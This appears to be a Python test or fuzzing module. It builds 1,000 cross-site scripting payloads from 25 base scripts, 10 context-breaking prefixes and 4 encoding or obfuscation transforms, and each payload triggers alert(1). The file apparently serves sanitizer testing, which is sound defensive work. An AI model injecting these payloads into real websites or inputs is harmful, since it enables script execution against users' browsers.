"""Scripts that attackers put where a text is asked for."""

import itertools

SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>a</a>",
    "[a](javascript:alert(1))",
    '![a](x"onerror=alert(1))',
    "<style>@import'javascript:alert(1)'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<form><button formaction=javascript:alert(1)>a</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "';alert(1);//",
    "data:text/html,<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]
BEFORE = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "\\", "<!--", "</script>"]
CHANGES = [str, str.upper, lambda text: f"&lt;&#60;{text}", lambda text: text.replace(" ", "/\u200b") + "\u202e"]
PAYLOADS = [before + change(script) for script, before, change in itertools.product(SCRIPTS, BEFORE, CHANGES)]
"""A thousand."""
